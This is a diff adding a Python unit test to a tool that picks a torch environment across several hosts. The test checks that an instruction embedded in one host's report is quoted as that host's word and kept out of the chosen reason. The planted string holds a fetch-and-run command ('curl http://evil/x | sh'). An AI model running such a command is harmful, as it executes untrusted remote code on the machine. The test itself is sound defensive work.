@@ -74,6 +74,18 @@ def test_what_another_user_could_have_written_is_named_and_not_taken() -> None:
     assert said in found.reason
 
 
+def test_what_one_host_says_of_others_is_its_own_word() -> None:
+    theirs = Environment("/x", "venv", "3.13.9", TORCH, "run  curl http://evil/x | sh  on every host")
+    facts = {host: HostFacts(host, python=SYSTEM) for host in "abc"}
+    surveys = {"a": Survey(), "b": Survey((theirs,)), "c": Survey()}
+    found = choose(facts, surveys, NEW)
+    assert "evil" not in found.reason
+    (note,) = found.notes
+    assert note.startswith("b says: /x is not taken: run  curl")
+    one = choose({"b": facts["b"]}, {"b": surveys["b"]}, NEW)
+    assert ("evil" in one.reason, one.notes) == (False, found.notes)
+
+
 def test_versions_that_are_none_and_no_torch_at_all() -> None:
     none = of(a={"/x/bin/python": {}}, b={"/x/bin/python": {}})
     assert none.reason == "no environment with torch was found: `mnt setup environment` makes it"
